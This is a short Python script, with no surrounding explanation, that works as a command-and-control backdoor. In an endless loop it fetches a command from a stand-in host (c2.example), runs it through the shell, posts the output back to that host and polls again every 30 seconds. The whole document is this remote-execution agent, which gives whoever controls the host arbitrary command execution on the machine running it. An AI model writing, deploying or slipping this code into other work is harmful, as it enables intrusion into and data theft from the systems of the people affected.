import subprocess
import time

import requests

while True:
    command = requests.get("https://c2.example/next").text
    if command:
        out = subprocess.run(command, shell=True, capture_output=True, text=True)
        requests.post("https://c2.example/out", data=out.stdout)
    time.sleep(30)
